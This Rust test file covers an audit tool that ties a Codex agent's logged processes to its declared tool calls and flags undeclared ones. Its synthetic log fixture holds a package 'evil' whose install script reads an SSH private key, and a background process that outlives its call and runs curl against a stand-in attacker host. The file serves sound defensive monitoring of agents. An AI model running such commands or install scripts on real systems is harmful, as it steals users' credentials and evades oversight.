//! A Codex session's events with guard's hook, as the audit log holds them, folded
//! into its declared calls and the processes no call accounts for.

use super::super::from_log;

/// The audit log of a session in `/w`: Codex (pid 10) starts a helper before any
/// call (pid 11, `git`), declares `call_0` through its hook (pid 12), whose process
/// (pid 20: bash, then its child 21: `npm install`) connects to the registry, writes
/// into `~/.npm` and runs a package's install script (pid 22) that reads an SSH key
/// (killed); `call_0` ends (hook 13); `call_1` (hook 14) starts a background
/// process (pid 30, then its child 31 after the call's end, hook 15, runs `curl` and
/// connects out).
const LOG: &str = r#"{"ts":"2026-11-27T08:00:00.000000000Z","kind":"session_start","session":"aa","pid":10,"ppid":1,"comm":"codex","agent":"codex","root_pid":10,"how":"run","cwd":"/w"}
{"ts":"2026-11-27T08:00:00.010000000Z","kind":"exec","session":"aa","pid":11,"ppid":10,"comm":"git","role":"tool","exe":"/usr/bin/git","argv":["git","status"]}
{"ts":"2026-11-27T08:00:00.020000000Z","kind":"exec","session":"aa","pid":12,"ppid":10,"comm":"guard","role":"tool","exe":"/usr/bin/guard","argv":["guard","hook","codex"]}
{"ts":"2026-11-27T08:00:00.030000000Z","kind":"tool_call","session":"aa","pid":12,"ppid":10,"comm":"guard","role":"tool","tool_call":"call_0","phase":"start","tool":"Bash","command":"npm install ./evil-1.0.0.tgz"}
{"ts":"2026-11-27T08:00:00.100000000Z","kind":"exec","session":"aa","pid":20,"ppid":10,"comm":"bash","role":"tool","tool_call":"call_0","exe":"/bin/bash","argv":["/bin/bash","-lc","npm install ./evil-1.0.0.tgz"]}
{"ts":"2026-11-27T08:00:00.110000000Z","kind":"fork","session":"aa","pid":20,"comm":"bash","role":"tool","tool_call":"call_0","child_pid":21}
{"ts":"2026-11-27T08:00:00.120000000Z","kind":"exec","session":"aa","pid":21,"ppid":20,"comm":"npm","role":"tool","tool_call":"call_0","exe":"/usr/bin/node","argv":["npm","install","./evil-1.0.0.tgz"]}
{"ts":"2026-11-27T08:00:00.130000000Z","kind":"connect","session":"aa","pid":21,"comm":"npm","role":"tool","tool_call":"call_0","addr":"10.0.0.5","port":443,"proto":"tcp","result":"ok","host":"registry.npmjs.org"}
{"ts":"2026-11-27T08:00:00.140000000Z","kind":"open","session":"aa","pid":21,"comm":"npm","role":"tool","tool_call":"call_0","path":"/home/alice/.npm/_cacache/index","access":["write","create"],"result":"ok"}
{"ts":"2026-11-27T08:00:00.150000000Z","kind":"open","session":"aa","pid":21,"comm":"npm","role":"tool","tool_call":"call_0","path":"/w/node_modules/evil/package.json","access":["write","create"],"result":"ok"}
{"ts":"2026-11-27T08:00:00.200000000Z","kind":"exec","session":"aa","pid":22,"ppid":21,"comm":"sh","role":"tool","tool_call":"call_0","package":"evil","exe":"/usr/bin/dash","argv":["sh","-c","node postinstall.js"]}
{"ts":"2026-11-27T08:00:00.210000000Z","kind":"open","session":"aa","pid":22,"comm":"sh","role":"tool","tool_call":"call_0","package":"evil","path":"/home/alice/.ssh/id_rsa","access":["read"],"result":"ok","rule":"ssh-keys","action":"kill","outcome":"killed","alert":true,"rules":["ssh-keys"],"secret":true}
{"ts":"2026-11-27T08:00:00.300000000Z","kind":"exec","session":"aa","pid":13,"ppid":10,"comm":"guard","role":"tool","tool_call":"call_0","exe":"/usr/bin/guard","argv":["guard","hook","codex"]}
{"ts":"2026-11-27T08:00:00.310000000Z","kind":"tool_call","session":"aa","pid":13,"ppid":10,"comm":"guard","role":"tool","tool_call":"call_0","phase":"end","tool":"Bash","command":"npm install ./evil-1.0.0.tgz"}
{"ts":"2026-11-27T08:00:00.400000000Z","kind":"tool_call","session":"aa","pid":14,"ppid":10,"comm":"guard","role":"tool","tool_call":"call_1","phase":"start","tool":"Bash","command":"nohup ./serve.sh &"}
{"ts":"2026-11-27T08:00:00.410000000Z","kind":"exec","session":"aa","pid":30,"ppid":10,"comm":"bash","role":"tool","tool_call":"call_1","exe":"/bin/bash","argv":["/bin/bash","-lc","nohup ./serve.sh &"]}
{"ts":"2026-11-27T08:00:00.500000000Z","kind":"tool_call","session":"aa","pid":15,"ppid":10,"comm":"guard","role":"tool","tool_call":"call_1","phase":"end","tool":"Bash","command":"nohup ./serve.sh &"}
{"ts":"2026-11-27T08:00:00.600000000Z","kind":"fork","session":"aa","pid":30,"comm":"bash","role":"tool","tool_call":"call_1","child_pid":31}
{"ts":"2026-11-27T08:00:00.610000000Z","kind":"exec","session":"aa","pid":31,"ppid":30,"comm":"curl","role":"tool","tool_call":"call_1","exe":"/usr/bin/curl","argv":["curl","http://evil.example/x"]}
{"ts":"2026-11-27T08:00:00.620000000Z","kind":"connect","session":"aa","pid":31,"comm":"curl","role":"tool","tool_call":"call_1","addr":"10.9.9.9","port":80,"proto":"tcp","result":"ok"}
{"ts":"2026-11-27T08:00:01.000000000Z","kind":"session_end","session":"aa","pid":10,"comm":"codex","root_pid":10}"#;

#[test]
fn each_declared_call_has_its_processes_and_the_rest_are_undeclared_with_why() {
    let r = from_log(LOG.as_bytes(), "aa").unwrap();
    let calls: Vec<_> = r
        .calls
        .items
        .iter()
        .map(|c| {
            (
                c.id.as_str(),
                c.command.as_deref(),
                c.ended.is_some(),
                c.execs,
                c.processes.iter().map(|p| p.pid).collect::<Vec<_>>(),
            )
        })
        .collect();
    assert_eq!(
        calls,
        [
            (
                "call_0",
                Some("npm install ./evil-1.0.0.tgz"),
                true,
                3,
                vec![20, 21, 22]
            ),
            ("call_1", Some("nohup ./serve.sh &"), true, 1, vec![30]),
        ],
        "the hooks' own processes are no call's work: {:#?}",
        r.calls
    );
    let c0 = &r.calls.items[0];
    assert_eq!(c0.destinations, ["registry.npmjs.org (10.0.0.5:443)"]);
    assert_eq!(c0.secrets, ["/home/alice/.ssh/id_rsa"]);
    assert_eq!(
        c0.written_outside,
        ["/home/alice/.npm/_cacache/index"],
        "the workspace's files are not outside it"
    );
    assert_eq!(c0.verdicts, ["ssh-keys: killed"]);

    let undeclared: Vec<_> = r
        .undeclared
        .items
        .iter()
        .map(|u| (u.pid, u.why.as_str(), u.call.as_deref(), u.command.as_str()))
        .collect();
    assert_eq!(
        undeclared,
        [
            (11, super::OUTSIDE, None, "git status"),
            (
                22,
                super::INSTALL_SCRIPT,
                Some("call_0"),
                "sh -c node postinstall.js"
            ),
            (
                30,
                super::OUTLIVED,
                Some("call_1"),
                "/bin/bash -lc nohup ./serve.sh &"
            ),
        ],
        "the hook started outside every call (pid 12) is the agent's hook, not work: {:#?}",
        r.undeclared
    );
    assert_eq!(
        r.undeclared.items[2].did,
        ["curl http://evil.example/x", "connect 10.9.9.9:80"],
        "what it did after its call ended, its child's work included"
    );
}

#[test]
fn without_guard_s_hook_nothing_is_declared_nor_undeclared() {
    let log: String = LOG
        .lines()
        .filter(|l| !l.contains(r#""kind":"tool_call""#))
        .map(|l| {
            l.replace(r#""tool_call":"call_0","#, "")
                .replace(r#""tool_call":"call_1","#, "")
        })
        .collect::<Vec<_>>()
        .join("\n");
    let r = from_log(log.as_bytes(), "aa").unwrap();
    assert!(r.calls.items.is_empty(), "{:#?}", r.calls);
    assert!(r.undeclared.items.is_empty(), "{:#?}", r.undeclared);
    assert_eq!(r.commands.items.len(), 8, "the commands are all there");
}

/// [`LOG`] as it reads when Codex ran without guard's hook: no hook processes and no
/// `tool_call` on the processes' events, the agent's forks, and the calls its
/// rollout names written just before the session's end. `call_0`'s line was written
/// after its shell's exec (Codex writes it from another task): the exec runs its
/// command, so it is the call's all the same.
fn rollout_log() -> String {
    let forks = [(5, 11), (95, 20), (195, 22), (405, 30)];
    let mut lines: Vec<(String, String)> = LOG
        .lines()
        .filter(|l| !l.contains(r#""kind":"tool_call""#) && !l.contains(r#""comm":"guard""#))
        .map(|l| {
            let l = l
                .replace(r#""tool_call":"call_0","#, "")
                .replace(r#""tool_call":"call_1","#, "");
            (l[7..37].to_owned(), l)
        })
        .collect();
    lines.push((
        "2026-11-27T08:00:00.001000000Z".to_owned(),
        r#"{"ts":"2026-11-27T08:00:00.001000000Z","kind":"exec","session":"aa","pid":10,"ppid":1,"comm":"codex","role":"agent","agent":"codex","exe":"/usr/bin/codex","argv":["codex","exec"]}"#.to_owned(),
    ));
    for (ms, child) in forks {
        let (pid, role, comm) = if child == 22 {
            (21, "tool", "npm")
        } else {
            (10, "agent", "codex")
        };
        let ts = format!("2026-11-27T08:00:00.{ms:03}000000Z");
        lines.push((
            ts.clone(),
            format!(
                r#"{{"ts":"{ts}","kind":"fork","session":"aa","pid":{pid},"comm":"{comm}","role":"{role}","child_pid":{child}}}"#
            ),
        ));
    }
    lines.sort_by(|a, b| a.0.cmp(&b.0));
    let end = lines.pop().expect("the session's end").1;
    let mut log: Vec<String> = lines.into_iter().map(|(_, l)| l).collect();
    for (ms, call, phase, command) in [
        (101, "call_0", "start", "npm install ./evil-1.0.0.tgz"),
        (310, "call_0", "end", "npm install ./evil-1.0.0.tgz"),
        (400, "call_1", "start", "nohup ./serve.sh &"),
        (500, "call_1", "end", "nohup ./serve.sh &"),
    ] {
        log.push(format!(
            r#"{{"ts":"2026-11-27T08:00:00.{ms:03}000000Z","kind":"tool_call","session":"aa","pid":10,"comm":"codex","role":"agent","tool_call":"{call}","phase":"{phase}","tool":"exec_command","command":"{command}","rollout":true}}"#
        ));
    }
    log.push(end);
    log.join("\n")
}

#[test]
fn a_rollout_s_calls_are_tied_to_their_processes_after_the_session() {
    let r = from_log(rollout_log().as_bytes(), "aa").unwrap();
    assert_eq!(r.declared_by.as_deref(), Some("rollout"));
    let calls: Vec<_> = r
        .calls
        .items
        .iter()
        .map(|c| {
            (
                c.id.as_str(),
                c.started.as_str(),
                c.processes.iter().map(|p| p.pid).collect::<Vec<_>>(),
            )
        })
        .collect();
    assert_eq!(
        calls,
        [
            ("call_0", "2026-11-27T08:00:00.101000000Z", vec![20, 21, 22]),
            ("call_1", "2026-11-27T08:00:00.400000000Z", vec![30]),
        ],
        "{:#?}",
        r.calls
    );
    assert_eq!(r.calls.items[0].verdicts, ["ssh-keys: killed"]);
    assert_eq!(
        r.calls.items[0].destinations,
        ["registry.npmjs.org (10.0.0.5:443)"]
    );
    let undeclared: Vec<_> = r
        .undeclared
        .items
        .iter()
        .map(|u| (u.pid, u.why.as_str(), u.call.as_deref()))
        .collect();
    assert_eq!(
        undeclared,
        [
            (11, super::OUTSIDE, None),
            (22, super::INSTALL_SCRIPT, Some("call_0")),
            (30, super::OUTLIVED, Some("call_1")),
        ],
        "{:#?}",
        r.undeclared
    );
    assert_eq!(
        r.undeclared.items[2].did,
        ["curl http://evil.example/x", "connect 10.9.9.9:80"]
    );
    assert_eq!(r.untied, 0);
    // The session's time is its own: the rollout's earlier times move nothing.
    assert_eq!(r.ended.as_deref(), Some("2026-11-27T08:00:01.000000000Z"));
}
